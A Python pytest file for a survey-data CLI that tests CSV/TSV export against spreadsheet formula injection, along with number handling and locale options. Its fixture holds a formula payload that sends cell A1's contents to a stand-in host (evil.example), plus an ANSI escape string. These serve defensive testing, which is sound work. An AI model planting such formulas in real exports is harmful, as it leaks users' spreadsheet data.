"""CSV and TSV are safe to open in a spreadsheet by default, in both locales: text that would run
as a formula is neutralised, numbers are never touched, control characters never go out raw;
--raw keeps the text as held; --locale id shapes both delimited formats and is refused by others."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from pelayanan_cli.cli import app
from pelayanan_cli.render.delimited import neutralised
from pelayanan_cli.render.view import Column

HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    data = tmp_path / "mine.toml"
    data.write_text(
        "[[result]]\n"
        'region = "53.71"\ninstrument = "skm"\nyear = 2023\n'
        "unit = '" + HOSTILE_UNIT + "'\n"
        'score = 80\n[[result.source]]\nurl = "https://example.org/test"\nprinted = "80"\n'
        'stated = "+baik \\u001b[31mmerah"\n',
        encoding="utf-8",
    )
    return data


def cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


@pytest.mark.parametrize(
    ("fmt", "locale", "delimiter"),
    [("csv", "c", ","), ("csv", "id", ";"), ("tsv", "c", "\t"), ("tsv", "id", "\t")],
)
def test_a_formula_in_the_data_exports_as_text(
    runner: CliRunner, hostile: Path, fmt: str, locale: str, delimiter: str
) -> None:
    args = ["export", "--instrument", "skm", "--data", str(hostile), "--format", fmt]
    result = runner.invoke(app, [*args, "--locale", locale])
    assert result.exit_code == 0, result.stderr
    rows = cells(result.stdout, delimiter)
    header = rows[0]
    mine = [r for r in rows[1:] if r[header.index("year")] == "2023"]
    unit = mine[0][header.index("unit")]
    stated = mine[0][header.index("stated")]
    assert unit == "'" + HOSTILE_UNIT  # shown as text by any spreadsheet
    assert stated == "'+baik \\x1b[31mmerah"  # and the escape never reaches the file raw
    assert "\x1b" not in result.stdout
    raw = runner.invoke(app, [*args, "--locale", locale, "--raw"])
    rows = cells(raw.stdout, delimiter)
    mine = [r for r in rows[1:] if r[header.index("year")] == "2023"]
    assert mine[0][header.index("unit")] == HOSTILE_UNIT
    assert mine[0][header.index("stated")] == "+baik \\x1b[31mmerah"
    assert "\x1b" not in raw.stdout


@pytest.mark.parametrize(
    ("fmt", "locale", "delimiter", "change"),
    [
        ("csv", "c", ",", "-1.19"),
        ("csv", "id", ";", "-1,19"),
        ("tsv", "c", "\t", "-1.19"),
        ("tsv", "id", "\t", "-1,19"),
    ],
)
def test_negative_numbers_stay_numbers(
    runner: CliRunner, fmt: str, locale: str, delimiter: str, change: str
) -> None:
    """Jawa Barat fell from 96,77 (2023) to 95,58 (2024): the change stays a number."""
    result = runner.invoke(
        app,
        ["diff", "2023", "2024", "--region", "jawa barat", "--format", fmt, "--locale", locale],
    )
    assert result.exit_code == 0, result.stderr
    rows = cells(result.stdout, delimiter)
    assert rows[1][rows[0].index("change")] == change


def test_the_rule() -> None:
    text = Column("unit", "Unit")
    number = Column("change", "Change", numeric=True)
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralised(f"{start}SUM(A1)", text) == f"'{start}SUM(A1)"
        assert neutralised(f"{start}SUM(A1)", number) == f"'{start}SUM(A1)"
    assert neutralised("-3.20", number) == "-3.20"
    assert neutralised("-3,20", number) == "-3,20"
    assert neutralised("-3.20", text) == "'-3.20"
    assert neutralised("Dinas Sosial", text) == "Dinas Sosial"


def test_locale_id_shapes_tsv_too(runner: CliRunner) -> None:
    result = runner.invoke(
        app, ["rank", "--year", "2024", "--province", "ntt", "--format", "tsv", "--locale", "id"]
    )
    assert result.exit_code == 0
    assert result.stdout.startswith("\ufeffrank\tof\theld\tassessed\tranked_among\tcode\t")
    assert '\t="53.71"\tKota Kupang\t' in result.stdout and "\t86,62\t" in result.stdout


@pytest.mark.parametrize("fmt", ["json", "table"])
def test_locale_id_is_refused_where_it_means_nothing(runner: CliRunner, fmt: str) -> None:
    result = runner.invoke(app, ["rank", "--format", fmt, "--locale", "id"])
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr.startswith("pelayanan: --locale id shapes CSV and TSV")
    assert len(result.stderr.splitlines()) == 1
